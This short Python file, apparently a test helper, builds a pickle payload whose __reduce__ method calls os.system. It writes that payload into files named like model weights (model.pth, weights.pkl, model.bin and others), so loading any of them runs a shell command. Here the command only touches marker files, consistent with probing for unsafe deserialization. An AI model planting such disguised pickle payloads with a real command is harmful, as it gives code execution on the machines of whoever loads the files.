import pickle


class Bomb:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        import os

        return os.system, (self.command,)


def make(place, places):
    bomb = pickle.dumps(Bomb(f"touch {places['OUTSIDE']}/{places['MARK']} /tmp/{places['MARK']}"))
    for name in ("model.pth", "model.pt", "weights.pkl", "model.ckpt", "model.bin", "model.joblib"):
        (place / name).write_bytes(bomb)
